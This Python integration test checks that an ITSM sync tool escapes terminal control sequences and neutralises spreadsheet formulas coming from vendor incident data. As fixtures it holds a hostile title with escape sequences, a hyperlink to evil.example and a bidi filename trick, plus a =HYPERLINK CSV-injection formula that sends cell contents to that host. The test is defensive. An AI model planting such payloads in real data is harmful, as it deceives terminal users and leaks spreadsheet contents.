"""Hostile vendor data on the way to people: a category built as a spreadsheet formula, and
ESC/OSC sequences (clear screen, window title, hyperlinks) in titles and error messages. The CSV
report neutralises formulas; every human output (sync error lines, plan, status, the audit table,
logs) shows control characters escaped."""

from __future__ import annotations

import csv
import io
import os
import time
from pathlib import Path

from itsm_bridge.sandbox.core import Response
from tests.integration.test_crash_safety import cli, new_sandbox, start

ESC_TITLE = "VPN down \x1b]0;owned\x07\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \u202eexe.txt"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"\x1b[31mopen")'


def controls(text: str) -> list[str]:
    """Control and bidi characters a terminal would act on (newline and tab are layout)."""
    return sorted(
        {
            repr(c)
            for c in text
            if (ord(c) < 0x20 and c not in "\n\t")
            or 0x7F <= ord(c) <= 0x9F
            or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
        }
    )


def test_vendor_control_sequences_reach_no_terminal_and_formulas_no_spreadsheet(tmp_path: Path) -> None:
    with new_sandbox() as sb:
        ci = sb.servicenow.add_reference("cmdb_ci", "VPN")
        linked = sb.servicenow.insert_incident(
            {
                "short_description": "VPN slow",
                "category": "network",
                "cmdb_ci": ci,
                "impact": "1",
                "urgency": "1",
                "state": "2",
            }
        )
        sb.servicenow.insert_incident(
            {
                "short_description": ESC_TITLE,
                "category": FORMULA,
                "cmdb_ci": ci,
                "impact": "3",
                "urgency": "3",
                "state": "1",
            }
        )
        cfg, env = start(tmp_path, sb)
        env = {**env, **{k: v for k, v in os.environ.items() if k == "PATH"}}
        first = cli(cfg, env, "sync")
        assert first.returncode == 1, first.stderr  # the formula category is unmapped: quarantined

        sb.servicenow.update_incident(linked["sys_id"], {"short_description": ESC_TITLE})
        time.sleep(0.05)
        plan = cli(cfg, env, "plan")
        assert "\\x1b]0;owned" in plan.stdout, plan.stdout  # shown, escaped

        jira, dispatch = sb.jira, sb.jira.dispatch

        def refusing(req):  # Jira refuses the edit, repeating the summary it was sent
            if req.method == "PUT" and "/issue/" in req.path:
                return Response(400, {"errorMessages": [f"summary refused: {ESC_TITLE}"], "errors": {}})
            return dispatch(req)

        jira.dispatch = refusing
        runs = {
            "plan": plan,
            "sync": cli(cfg, env, "-v", "sync"),
            "status": cli(cfg, env, "status"),
            "quarantine list": cli(cfg, env, "quarantine", "list"),
            "audit": cli(cfg, env, "audit"),
            "journal show": cli(cfg, env, "journal", "show"),
        }
        assert "summary refused" in runs["sync"].stdout, runs["sync"].stdout + runs["sync"].stderr
        assert "\\x1b" in runs["audit"].stdout
        shown = {name: controls(r.stdout + r.stderr) for name, r in runs.items()}
        assert shown == {name: [] for name in runs}

        out = tmp_path / "audit.csv"
        cli(cfg, env, "audit", "--format", "csv", "--out", str(out))
        cells = [c for row in csv.reader(io.StringIO(out.read_text(), newline="")) for c in row]
        assert any(c.startswith("'=HYPERLINK(") for c in cells), cells
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
